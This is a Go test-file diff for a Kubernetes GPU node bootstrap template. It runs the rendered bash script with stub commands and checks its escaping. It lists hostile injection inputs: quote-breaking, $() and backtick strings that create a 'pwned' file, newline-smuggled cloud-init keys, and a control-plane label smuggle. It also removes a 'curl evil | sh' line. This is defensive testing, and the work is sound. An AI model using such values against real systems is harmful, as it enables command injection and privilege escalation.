@@ -2,10 +2,14 @@ package bootstrap
 
 import (
 	"encoding/json"
+	"errors"
+	"fmt"
+	"io/fs"
+	"os"
 	"os/exec"
-	"regexp"
+	"path/filepath"
 	"slices"
-	"sort"
+	"strconv"
 	"strings"
 	"testing"
 
@@ -57,45 +61,123 @@ func TestNewData(t *testing.T) {
 	}
 }
 
-var kubeletLine = regexp.MustCompile(`^KUBELET_EXTRA_ARGS='--node-labels=([^' ]*) --register-with-taints=([^' ]*)'\n$`)
+// A bootRun is what one run of a rendered script did.
+type bootRun struct {
+	err      error      // bash's exit: nil for status 0
+	calls    [][]string // the stubs' calls in order, each the command and its arguments
+	defaults *string    // the kubelet defaults file, nil if the script wrote none
+	pwned    bool       // a file named pwned appeared in the working directory
+	stderr   string
+}
 
-// renderDefault renders DefaultTemplate and checks its shape: only the
-// keys hostname and write_files, one file, one kubelet line. It returns
-// the hostname and the flags' values.
-func renderDefault(t *testing.T, data Data) (host string, labels, taints []string) {
+// stubExits are the exit statuses of the stub commands.
+type stubExits struct {
+	hostnamectl, systemctlCat, systemctl int
+}
+
+// runScript renders tmpl for data, checks that bash -n accepts it and runs
+// it with bash in a temporary directory. PATH holds only stubs of
+// hostnamectl and systemctl that record their arguments and exit as exits
+// says (systemctl cat with systemctlCat, any other systemctl call with
+// systemctl), so the script can run nothing else but bash's builtins, and
+// TGP_KUBELET_DEFAULTS points into the directory.
+func runScript(t *testing.T, tmpl string, data Data, exits stubExits) bootRun {
 	t.Helper()
-	out, err := Render(DefaultTemplate, data, Limits{MaxBytes: 16 << 10})
+	bash, err := exec.LookPath("bash")
+	if err != nil {
+		t.Skip("no bash to run the default template with")
+	}
+	sh, err := exec.LookPath("sh")
+	if err != nil {
+		t.Skip("no sh for the stub commands")
+	}
+	out, err := Render(tmpl, data, Limits{MaxBytes: 16 << 10})
 	if err != nil {
 		t.Fatal(err)
 	}
-	if !strings.HasPrefix(out, "#cloud-config\n") {
-		t.Fatalf("output does not start with #cloud-config:\n%s", out)
+	dir := t.TempDir()
+	bin, work := filepath.Join(dir, "bin"), filepath.Join(dir, "work")
+	for _, d := range []string{bin, work} {
+		if err := os.Mkdir(d, 0o755); err != nil {
+			t.Fatal(err)
+		}
 	}
-	var doc map[string]any
-	if err := yaml.Unmarshal([]byte(out), &doc); err != nil {
-		t.Fatalf("output is not YAML: %v\n%s", err, out)
+	// A call is recorded as its argument count, the command and the
+	// arguments, each NUL-terminated: arguments may hold newlines but
+	// never a NUL.
+	record := `printf '%s\0' "$#" "${0##*/}" "$@" >>"$STUB_LOG"` + "\n"
+	stubs := map[string]string{
+		"hostnamectl": record + `exit "$STUB_HOSTNAMECTL"`,
+		"systemctl":   record + `if [ "$1" = cat ]; then exit "$STUB_SYSTEMCTL_CAT"; fi; exit "$STUB_SYSTEMCTL"`,
 	}
-	keys := make([]string, 0, len(doc))
-	for k := range doc {
-		keys = append(keys, k)
+	for name, body := range stubs {
+		if err := os.WriteFile(filepath.Join(bin, name), []byte("#!"+sh+"\n"+body+"\n"), 0o755); err != nil {
+			t.Fatal(err)
+		}
 	}
-	sort.Strings(keys)
-	if !slices.Equal(keys, []string{"hostname", "write_files"}) {
-		t.Fatalf("top-level keys %v, want [hostname write_files]:\n%s", keys, out)
+	script := filepath.Join(dir, "bootstrap.sh")
+	if err := os.WriteFile(script, []byte(out), 0o644); err != nil {
+		t.Fatal(err)
 	}
-	host, _ = doc["hostname"].(string)
-	files, _ := doc["write_files"].([]any)
-	if len(files) != 1 {
-		t.Fatalf("write_files = %v, want one file", doc["write_files"])
+	if msg, err := exec.Command(bash, "-n", script).CombinedOutput(); err != nil {
+		t.Fatalf("bash -n: %v\n%s\nscript:\n%s", err, msg, out)
 	}
-	file, _ := files[0].(map[string]any)
-	if len(file) != 2 || file["path"] != "/etc/default/kubelet" {
-		t.Fatalf("file = %v, want path /etc/default/kubelet and content", file)
+	log, defaults := filepath.Join(dir, "calls"), filepath.Join(dir, "kubelet")
+	cmd := exec.Command(bash, script)
+	cmd.Dir = work
+	cmd.Env = []string{
+		"PATH=" + bin, "TGP_KUBELET_DEFAULTS=" + defaults, "STUB_LOG=" + log,
+		fmt.Sprintf("STUB_HOSTNAMECTL=%d", exits.hostnamectl),
+		fmt.Sprintf("STUB_SYSTEMCTL_CAT=%d", exits.systemctlCat),
+		fmt.Sprintf("STUB_SYSTEMCTL=%d", exits.systemctl),
 	}
-	content, _ := file["content"].(string)
-	m := kubeletLine.FindStringSubmatch(content)
-	if m == nil {
-		t.Fatalf("content %q is not one KUBELET_EXTRA_ARGS line with the two flags", content)
+	var stderr strings.Builder
+	cmd.Stderr = &stderr
+	run := bootRun{err: cmd.Run(), stderr: stderr.String()}
+	if raw, err := os.ReadFile(log); err == nil {
+		fields := strings.Split(string(raw), "\x00")
+		for len(fields) > 1 {
+			n, err := strconv.Atoi(fields[0])
+			if err != nil || len(fields) < n+3 {
+				t.Fatalf("stub log %q is not a list of calls", raw)
+			}
+			run.calls = append(run.calls, fields[1:n+2])
+			fields = fields[n+2:]
+		}
+	} else if !errors.Is(err, fs.ErrNotExist) {
+		t.Fatal(err)
+	}
+	if raw, err := os.ReadFile(defaults); err == nil {
+		s := string(raw)
+		run.defaults = &s
+	} else if !errors.Is(err, fs.ErrNotExist) {
+		t.Fatal(err)
+	}
+	if _, err := os.Stat(filepath.Join(work, "pwned")); err == nil {
+		run.pwned = true
+	}
+	return run
+}
+
+// kubeletArgs reads a kubelet defaults file as systemd does: an
+// EnvironmentFile line KUBELET_EXTRA_ARGS='...' (a single-quoted value is
+// taken as it is), and the value split at whitespace, as ExecStart's
+// $KUBELET_EXTRA_ARGS is. It returns the two flags' values, split at
+// commas, or fails the test if the file is anything else.
+func kubeletArgs(t *testing.T, file string) (labels, taints []string) {
+	t.Helper()
+	const prefix = "KUBELET_EXTRA_ARGS='"
+	line, ok := strings.CutSuffix(file, "'\n")
+	if !ok || strings.Count(file, "\n") != 1 || !strings.HasPrefix(line, prefix) {
+		t.Fatalf("defaults file %q is not one line KUBELET_EXTRA_ARGS='...'", file)
+	}
+	value := line[len(prefix):]
+	if strings.Contains(value, "'") {
+		t.Fatalf("defaults file %q: a quote inside the value ends it early", file)
+	}
+	words := strings.Fields(value)
+	if len(words) != 2 || !strings.HasPrefix(words[0], "--node-labels=") || !strings.HasPrefix(words[1], "--register-with-taints=") {
+		t.Fatalf("kubelet arguments %q, want --node-labels=... --register-with-taints=...", words)
 	}
 	split := func(s string) []string {
 		if s == "" {
@@ -103,71 +185,120 @@ func renderDefault(t *testing.T, data Data) (host string, labels, taints []strin
 		}
 		return strings.Split(s, ",")
 	}
-	return host, split(m[1]), split(m[2])
+	return split(strings.TrimPrefix(words[0], "--node-labels=")), split(strings.TrimPrefix(words[1], "--register-with-taints="))
 }
 
-func TestDefaultTemplate(t *testing.T) {
-	data := testData(2)
-	host, labels, taints := renderDefault(t, data)
-	if host != data.NodeName {
-		t.Errorf("hostname %q, want %q", host, data.NodeName)
-	}
-	if want := []string{"example.com/l00=v00", "example.com/l01=v01"}; !slices.Equal(labels, want) {
-		t.Errorf("labels %q, want %q", labels, want)
-	}
-	if want := []string{"nvidia.com/gpu=true:NoSchedule", "example.com/dedicated=:NoExecute"}; !slices.Equal(taints, want) {
-		t.Errorf("taints %q, want %q", taints, want)
-	}
-	// The same as provision.go's template before this package for benign
-	// data, but for the kubelet flags' quotes: single quotes need no escape
-	// inside the YAML string, so parsers of the user data (the simulators'
-	// node agent, a reader of the file) see the flags as written.
-	was, err := plainRender(strings.ReplaceAll(oldDefault, `"`, `'`), data)
+var (
+	callHostname = func(name string) []string { return []string{"hostnamectl", "set-hostname", name} }
+	callCat      = []string{"systemctl", "cat", "kubelet.service"}
+	callRestart  = []string{"systemctl", "--no-block", "restart", "kubelet.service"}
+)
+
+func TestDefaultTemplateIsAScript(t *testing.T) {
+	out, err := Render(DefaultTemplate, testData(2), Limits{})
 	if err != nil {
 		t.Fatal(err)
 	}
-	now, _ := Render(DefaultTemplate, data, Limits{})
-	var a, b any
-	if err := yaml.Unmarshal([]byte(was), &a); err != nil {
-		t.Fatal(err)
-	}
-	if err := yaml.Unmarshal([]byte(now), &b); err != nil {
-		t.Fatal(err)
-	}
-	if d := cmp.Diff(a, b); d != "" {
-		t.Errorf("DefaultTemplate differs from the old template's document (-old +new):\n%s", d)
+	if !strings.HasPrefix(out, "#!/bin/bash\n") || !strings.Contains(out, "\nset -eu\n") {
+		t.Errorf("the default template is not a bash script with set -eu:\n%s", out)
 	}
 }
 
-// oldDefault is provision.go's defaultBootstrap before this package.
-const oldDefault = `#cloud-config
-hostname: {{ .NodeName }}
-write_files:
-  - path: /etc/default/kubelet
-    content: |
-      KUBELET_EXTRA_ARGS="--node-labels={{ .KubeletLabels }} --register-with-taints={{ .KubeletTaints }}"
-`
+func TestDefaultTemplateRuns(t *testing.T) {
+	req := &tgpv1.GPURequest{ObjectMeta: metav1.ObjectMeta{Name: "train", Namespace: "team-a"}}
+	req.Spec.NodeTaints = []tgpv1.NodeTaint{
+		{Key: "nvidia.com/gpu", Value: "true", Effect: corev1.TaintEffectNoSchedule},
+		{Key: "dedicated", Effect: corev1.TaintEffectNoExecute},
+		{Key: "example.com/t_1.x-Y", Value: "v.1-x_Y", Effect: corev1.TaintEffectPreferNoSchedule},
+	}
+	// Valid but tricky: an empty value, dots, dashes, underscores and
+	// capitals, a 63-character value, a prefix of digits.
+	long := strings.Repeat("a", 62) + "9"
+	labels := map[string]string{
+		"tgp.solanyn.com/request": "train", "a": "", "example.com/a-b_c.d": "A.b-c_9",
+		"k8s.io/Z_z.9-A": "0", "1.2/3": long,
+	}
+	data := NewData(req, "gpur-0f8fad5bd9cb469f-2", "lambda", "us-east-1", labels)
+	wantLabels := []string{"1.2/3=" + long, "a=", "example.com/a-b_c.d=A.b-c_9", "k8s.io/Z_z.9-A=0", "tgp.solanyn.com/request=train"}
+	wantTaints := []string{"nvidia.com/gpu=true:NoSchedule", "dedicated=:NoExecute", "example.com/t_1.x-Y=v.1-x_Y:PreferNoSchedule"}
+	bare := NewData(&tgpv1.GPURequest{}, "tgp-1", "paperspace", "ny2", nil)
+
+	for _, tc := range []struct {
+		name                   string
+		data                   Data
+		exits                  stubExits
+		fails                  bool
+		calls                  [][]string
+		wantLabels, wantTaints []string // the flags' values in the file, nil for an empty flag
+		noFile                 bool
+	}{
+		{name: "labels and taints", data: data, calls: [][]string{callHostname(data.NodeName), callCat, callRestart},
+			wantLabels: wantLabels, wantTaints: wantTaints},
+		{name: "no labels or taints", data: bare, calls: [][]string{callHostname("tgp-1"), callCat, callRestart}},
+		{name: "no kubelet unit", data: data, exits: stubExits{systemctlCat: 1}, calls: [][]string{callHostname(data.NodeName), callCat},
+			wantLabels: wantLabels, wantTaints: wantTaints},
+		{name: "kubelet restart fails", data: data, exits: stubExits{systemctl: 1}, fails: true,
+			calls: [][]string{callHostname(data.NodeName), callCat, callRestart}, wantLabels: wantLabels, wantTaints: wantTaints},
+		{name: "hostnamectl fails", data: data, exits: stubExits{hostnamectl: 1}, fails: true,
+			calls: [][]string{callHostname(data.NodeName)}, noFile: true},
+	} {
+		t.Run(tc.name, func(t *testing.T) {
+			run := runScript(t, DefaultTemplate, tc.data, tc.exits)
+			if tc.fails != (run.err != nil) {
+				t.Errorf("script exit: %v, want failure %v; stderr:\n%s", run.err, tc.fails, run.stderr)
+			}
+			if d := cmp.Diff(tc.calls, run.calls); d != "" {
+				t.Errorf("calls (-want +got):\n%s", d)
+			}
+			if tc.noFile {
+				if run.defaults != nil {
+					t.Errorf("defaults file %q written after a failure", *run.defaults)
+				}
+				return
+			}
+			if run.defaults == nil {
+				t.Fatalf("no defaults file written; stderr:\n%s", run.stderr)
+			}
+			gotLabels, gotTaints := kubeletArgs(t, *run.defaults)
+			if d := cmp.Diff(tc.wantLabels, gotLabels); d != "" {
+				t.Errorf("kubelet labels (-want +got):\n%s", d)
+			}
+			if d := cmp.Diff(tc.wantTaints, gotTaints); d != "" {
+				t.Errorf("kubelet taints (-want +got):\n%s", d)
+			}
+		})
+	}
+}
 
 func TestDefaultTemplateEscapes(t *testing.T) {
-	// What the escaping prevents: the old template and unchecked flags
-	// let a value add a cloud-init key and a kubelet label.
-	evil := "x\nruncmd:\n  - [sh, -c, 'curl evil | sh']"
-	out, err := plainRender(oldDefault, Data{NodeName: evil, KubeletLabels: "a=x,node-role.kubernetes.io/control-plane=true"})
-	var doc map[string]any
-	if err != nil || yaml.Unmarshal([]byte(out), &doc) != nil || doc["runcmd"] == nil || !strings.Contains(out, ",node-role") {
-		t.Fatalf("the old template resists the injection (%v): the test tests nothing\n%s", err, out)
+	// What the quoting prevents: the same script with the node name
+	// written bare lets a value run a command (here a redirection, which
+	// needs no program on the stubs' PATH).
+	naive := strings.Replace(DefaultTemplate, "{{ shell .NodeName }}", "{{ .NodeName }}", 1)
+	if naive == DefaultTemplate {
+		t.Fatal("DefaultTemplate no longer writes {{ shell .NodeName }}: update this test")
+	}
+	if run := runScript(t, naive, Data{NodeName: "x; >pwned"}, stubExits{}); !run.pwned {
+		t.Fatalf("the unquoted script resists the injection: the test tests nothing (calls %q, %v)", run.calls, run.err)
 	}
 
 	hostile := []string{
-		"x\nruncmd:\n  - [sh, -c, 'curl evil | sh']",
-		"x\"\nruncmd: [reboot]\n\"",
-		"x' \nbootcmd: [id]",
+		"x'; >pwned; '",
+		`x"; >pwned; "`,
+		"'\\''; >pwned #",
+		`\'; >pwned; #`,
+		"$(>pwned)",
+		"`>pwned`",
+		"${IFS}>pwned",
+		"x\n>pwned\n",
+		"x\r\n>pwned #",
+		"x\nruncmd:\n  - [sh, -c, '>pwned']",
 		"x,node-role.kubernetes.io/control-plane=true",
 		"a=b --pod-manifest-path=/tmp",
-		"x\\\"\n#",
-		"\u2028runcmd: [id]\u0085users: []",
-		"x\x00\x7f\x1b[2J\xff",
+		"x\x7f\x1b[2J\xff\u2028",
+		"a\x00b",
 		"{{ .Labels }}",
+		"-",
 	}
 	for _, v := range hostile {
 		req := &tgpv1.GPURequest{ObjectMeta: metav1.ObjectMeta{Name: "r", Namespace: "n"}}
@@ -178,11 +309,21 @@ func TestDefaultTemplateEscapes(t *testing.T) {
 			{Key: "e", Value: "x", Effect: corev1.TaintEffect(v)},
 		}
 		labels := map[string]string{"ok": "1", "v": v, v: "k", "z": "2"}
-		data := NewData(req, v, "p", "r", labels)
-		host, gotLabels, gotTaints := renderDefault(t, data)
-		if want := strings.ToValidUTF8(v, "\ufffd"); host != want {
-			t.Errorf("%q: hostname %q, want the value itself", v, host)
+		run := runScript(t, DefaultTemplate, NewData(req, v, "p", "r", labels), stubExits{})
+		if run.err != nil || run.pwned {
+			t.Errorf("%q: exit %v, pwned %v; stderr:\n%s", v, run.err, run.pwned, run.stderr)
 		}
+		// bash drops a NUL byte of a script (past its first line), and an
+		// argument cannot hold one: the rest of the value is the name.
+		want := [][]string{callHostname(strings.ReplaceAll(v, "\x00", "")), callCat, callRestart}
+		if d := cmp.Diff(want, run.calls); d != "" {
+			t.Errorf("%q: calls (-want +got):\n%s", v, d)
+		}
+		if run.defaults == nil {
+			t.Errorf("%q: no defaults file written", v)
+			continue
+		}
+		gotLabels, gotTaints := kubeletArgs(t, *run.defaults)
 		if want := []string{"ok=1", "z=2"}; !slices.Equal(gotLabels, want) {
 			t.Errorf("%q: kubelet labels %q, want %q", v, gotLabels, want)
 		}
